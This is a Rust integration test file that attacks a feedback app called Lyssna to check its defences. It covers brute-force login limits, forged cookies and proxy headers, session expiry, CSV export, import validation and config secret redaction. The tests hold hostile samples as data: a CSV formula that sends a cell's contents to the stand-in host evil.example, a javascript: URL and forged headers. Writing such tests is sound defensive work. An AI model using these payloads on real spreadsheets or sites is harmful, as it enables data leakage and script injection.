//! Attacks on the login, the sessions and what leaves Lyssna (CSV, imports, the demo, config check),
//! each against the real app or binary.

use crate::support::databases;
use crate::support::{PASSWORD, TestApp, USER, set_cookie, spawn, spawn_with};
use chrono::Utc;
use reqwest::StatusCode;
use reqwest::header::COOKIE;

/// A fresh login-form CSRF token (the double-submit cookie's value).
async fn login_csrf(t: &TestApp) -> String {
    let r = t.http.get(t.url("/login")).send().await.unwrap();
    set_cookie(&r, "lyssna_login_csrf").unwrap()
}

/// One login POST with optional extra cookie and header.
async fn attempt(
    t: &TestApp,
    csrf: &str,
    user: &str,
    password: &str,
    cookie: Option<&str>,
    forwarded: Option<&str>,
) -> reqwest::Response {
    let mut cookies = format!("lyssna_login_csrf={csrf}");
    if let Some(c) = cookie {
        cookies.push_str("; ");
        cookies.push_str(c);
    }
    let mut req = t.http.post(t.url("/login")).header(COOKIE, cookies).form(&[
        ("username", user),
        ("password", password),
        ("csrf_token", csrf),
    ]);
    if let Some(f) = forwarded {
        req = req.header("x-forwarded-for", f);
    }
    req.send().await.unwrap()
}

#[tokio::test]
async fn parallel_guesses_cannot_pass_the_gate_together() {
    let (_, db, _dir) = databases("loginburst").await.remove(0);
    let t = spawn(&db).await;
    let csrf = login_csrf(&t).await;
    // 200 guesses at once, the right password among them: before the fix every one passed the check
    // (counted only after an await) and the right one got a session.
    let guesses = (0..200).map(|i| {
        let (t, csrf) = (&t, csrf.clone());
        async move {
            let pw = if i == 150 { PASSWORD } else { "wrong guess" };
            attempt(t, &csrf, USER, pw, None, None).await.status()
        }
    });
    let statuses = futures_util::future::join_all(guesses).await;
    let checked = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED || **s == StatusCode::SEE_OTHER)
        .count();
    let refused = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert!(
        checked <= 5,
        "{checked} passwords were checked: {statuses:?}"
    );
    assert_eq!(checked + refused, 200);
}

#[tokio::test]
async fn the_leader_logs_in_from_a_known_browser_while_the_name_is_attacked() {
    let (_, db, _dir) = databases("loginlockout").await.remove(0);
    let t = spawn(&db).await;
    let csrf = login_csrf(&t).await;
    let first = attempt(&t, &csrf, USER, PASSWORD, None, None).await;
    assert_eq!(first.status(), StatusCode::SEE_OTHER);
    let device = set_cookie(&first, "lyssna_device").expect("a device cookie after login");
    for _ in 0..30 {
        attempt(&t, &csrf, USER, "wrong", None, None).await;
    }
    let stranger = attempt(&t, &csrf, USER, PASSWORD, None, None).await;
    assert_eq!(stranger.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(stranger.headers().contains_key("retry-after"));
    assert!(stranger.text().await.unwrap().contains("try again in"));
    let cookie = format!("lyssna_device={device}");
    let leader = attempt(&t, &csrf, USER, PASSWORD, Some(&cookie), None).await;
    assert_eq!(
        leader.status(),
        StatusCode::SEE_OTHER,
        "the known browser gets in"
    );
    // A forged device cookie is an unknown browser: still held back.
    let forged = format!("lyssna_device=1.{}.{}", "a".repeat(43), "0".repeat(64));
    let r = attempt(&t, &csrf, USER, PASSWORD, Some(&forged), None).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn clients_behind_a_trusted_proxy_are_counted_apart() {
    let (_, db, _dir) = databases("loginproxy").await.remove(0);
    let t = spawn_with(&db, "trusted_proxies = [\"127.0.0.1\"]").await;
    let csrf = login_csrf(&t).await;
    // One client sprays 21 user names: its address is held back after 20 ...
    for i in 0..20 {
        let r = attempt(&t, &csrf, &format!("u{i}"), "x", None, Some("203.0.113.5")).await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    }
    let r = attempt(&t, &csrf, "u21", "x", None, Some("203.0.113.5")).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    // ... while another client behind the same proxy logs in.
    let r = attempt(&t, &csrf, USER, PASSWORD, None, Some("198.51.100.7")).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    // A forged left-most entry does not help: the proxy appended the real address last.
    let r = attempt(
        &t,
        &csrf,
        "u22",
        "x",
        None,
        Some("198.51.100.99, 203.0.113.5"),
    )
    .await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn sessions_end_at_expiry_and_after_a_reset_from_another_process() {
    let (_, db, _dir) = databases("sessionend").await.remove(0);
    let t = spawn(&db).await;
    let login = t.login().await;
    let page = |cookie: String| {
        let t = &t;
        async move {
            let r = t
                .http
                .get(t.url("/"))
                .header(COOKIE, cookie)
                .send()
                .await
                .unwrap();
            r.status()
        }
    };
    assert_eq!(page(login.cookie.clone()).await, StatusCode::OK);
    // `lyssna user add` in another process: its own connection to the same database.
    let other = lyssna::store::Store::connect(&db).await.unwrap();
    let hash = lyssna::web::auth::hash_password("ett nytt lösenord").unwrap();
    other.upsert_user(USER, &hash, Utc::now()).await.unwrap();
    assert_eq!(page(login.cookie.clone()).await, StatusCode::SEE_OTHER);

    // A session that expires in a second works until then, and not after.
    let user = t.app.store.user_by_name(USER).await.unwrap().unwrap();
    let token = lyssna::web::auth::random_token();
    let now = Utc::now();
    t.app
        .store
        .create_session(
            &lyssna::web::auth::token_hash(&token),
            user.id,
            "csrf",
            now,
            now + chrono::Duration::milliseconds(1500),
        )
        .await
        .unwrap();
    let cookie = format!("lyssna_session={token}");
    assert_eq!(page(cookie.clone()).await, StatusCode::OK);
    tokio::time::sleep(std::time::Duration::from_millis(2000)).await;
    assert_eq!(page(cookie).await, StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn exported_csv_cannot_carry_formulas() {
    let (_, db, _dir) = databases("csvformula").await.remove(0);
    let t = spawn(&db).await;
    let evil = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
    let line = serde_json::json!({
        "source": "Forum", "title": evil, "author": "@SUM(1+1)", "body": "-1+2 GoMonday",
        "found_at": "2026-11-20T10:00:00Z", "sentiment": "criticism", "status": "new",
    });
    let lines = vec![(1usize, serde_json::from_value(line).unwrap())];
    t.app.store.import(&lines, Utc::now()).await.unwrap();
    let lines = t.app.store.export_all().await.unwrap();
    let csv = lyssna::render::csv::export_csv(&lines, ',');
    let row = &csv[1];
    assert!(row.contains(r#""'=HYPERLINK("#), "{row}");
    assert!(row.contains(",'@SUM(1+1),"), "{row}");
    assert!(row.ends_with(",'-1+2 GoMonday"), "{row}");
    // With `;` (a spreadsheet set to Swedish) the same cells are neutralised.
    let row = &lyssna::render::csv::export_csv(&lines, ';')[1];
    assert!(row.contains(r#";"'=HYPERLINK("#), "{row}");
    assert!(row.contains(";'@SUM(1+1);"), "{row}");
}

#[test]
fn import_refuses_links_that_are_not_http() {
    let text = [
        r#"{"source": "S", "body": "ok", "found_at": "2026-11-20T10:00:00Z", "url": "https://a.example/1"}"#,
        r#"{"source": "S", "body": "x", "found_at": "2026-11-20T10:00:00Z", "url": "javascript:alert(1)"}"#,
        r#"{"source": "S", "body": "y", "found_at": "2026-11-20T10:00:00Z", "thread_url": "data:text/html,x"}"#,
    ]
    .join("\n");
    let errors = lyssna::store::parse_import(&text).unwrap_err();
    let shown: Vec<String> = errors.iter().map(|e| e.to_string()).collect();
    assert_eq!(shown.len(), 2, "{shown:?}");
    assert!(
        shown[0].starts_with("line 2: url 'javascript:alert(1)' is not an http(s) URL"),
        "{shown:?}"
    );
    assert!(shown[1].starts_with("line 3: thread_url"), "{shown:?}");
}

/// Runs the binary with `stdin`; (exit code, stderr).
fn lyssna(dir: &std::path::Path, args: &[&str], stdin: &str) -> (Option<i32>, String) {
    use std::io::Write;
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_lyssna"))
        .current_dir(dir)
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).to_string(),
    )
}

#[test]
fn the_demo_is_not_served_to_the_network_with_its_known_login() {
    let dir = tempfile::tempdir().unwrap();
    let (code, err) = lyssna(dir.path(), &["demo", "--listen", "0.0.0.0:0"], "");
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("--public") && err.contains("--password-stdin"),
        "{err}"
    );
    let (code, err) = lyssna(
        dir.path(),
        &["demo", "--listen", "0.0.0.0:0", "--public"],
        "",
    );
    assert_eq!(code, Some(2), "{err}");
    let args = [
        "demo",
        "--listen",
        "0.0.0.0:0",
        "--public",
        "--password-stdin",
    ];
    let (code, err) = lyssna(dir.path(), &args, "aaaaaaaa\n");
    assert_eq!(code, Some(2), "a trivial password is refused: {err}");
    assert!(err.contains("one character repeated"), "{err}");
}

#[test]
fn user_add_refuses_common_and_trivial_passwords() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("l.db").display());
    assert_eq!(
        lyssna(dir.path(), &["--database-url", &db, "migrate"], "").0,
        Some(0)
    );
    for (pw, why) in [
        ("aaaaaaaa", "repeated"),
        ("12345678", "run"),
        ("Password1", "common"),
        ("lisalisa", "pattern"),
    ] {
        let args = [
            "--database-url",
            &db,
            "user",
            "add",
            "lisa",
            "--password-stdin",
        ];
        let (code, err) = lyssna(dir.path(), &args, &format!("{pw}\n"));
        assert_eq!(code, Some(2), "{pw}: {err}");
        assert!(err.contains(why), "{pw}: {err}");
    }
}

#[test]
fn config_check_hides_webhook_secrets_and_warns_about_clear_text_smtp() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("lyssna.toml");
    std::fs::write(
        &path,
        "[[webhooks]]\nurl = \"ftp://hooks.slack.com/services/T000/B000/s3cr3tpath\"\n",
    )
    .unwrap();
    let (code, err) = lyssna(
        dir.path(),
        &["--config", "lyssna.toml", "config", "check"],
        "",
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("hooks.slack.com"), "{err}");
    assert!(
        !err.contains("s3cr3tpath") && !err.contains("T000"),
        "{err}"
    );
    std::fs::write(
        &path,
        "[smtp]\nhost = \"mail.example.org\"\nsecurity = \"none\"\nfrom = \"Lyssna <l@example.org>\"\n",
    )
    .unwrap();
    let (code, err) = lyssna(
        dir.path(),
        &["--config", "lyssna.toml", "config", "check"],
        "",
    );
    assert_eq!(code, Some(0), "{err}");
    assert!(err.contains("warning: [smtp] security = \"none\""), "{err}");
}
